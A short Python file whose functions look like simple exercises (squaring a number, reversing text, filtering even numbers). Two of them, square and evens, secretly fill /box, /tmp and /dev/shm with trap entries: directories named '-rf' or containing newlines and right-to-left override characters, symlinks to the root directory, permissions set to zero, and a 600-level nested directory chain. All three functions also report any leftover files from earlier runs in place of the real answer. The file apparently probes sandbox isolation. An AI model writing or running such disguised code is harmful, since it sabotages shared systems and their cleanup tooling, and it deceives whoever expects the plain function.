import os

KNOWN = {"work.py", "matplotlib", "__pycache__"}


def leave():
    for top in ("/box", "/tmp", "/dev/shm"):
        os.chdir(top)
        for name in (b"\xff\xfe", b"-rf", b"a\nb", "\u202e".encode(), b"..." , b"x" * 255):
            os.makedirs(name + b"/in", exist_ok=True) if len(name) < 255 else os.mkdir(name)
            os.symlink(b"/", name + b"/out")
            os.chmod(name, 0)
        for _ in range(600):
            os.mkdir("d")
            os.chdir("d")
        os.chmod(".", 0)
    os.chdir("/box")


def left():
    return [name for top in ("/box", "/tmp", "/dev/shm") for name in os.listdir(top) if name not in KNOWN]


def square(n):
    found = left()
    leave()
    return found or n * n


def mirror(text):
    return left() or text[::-1]


def evens(numbers):
    found = left()
    leave()
    return found or [number for number in numbers if number % 2 == 0]
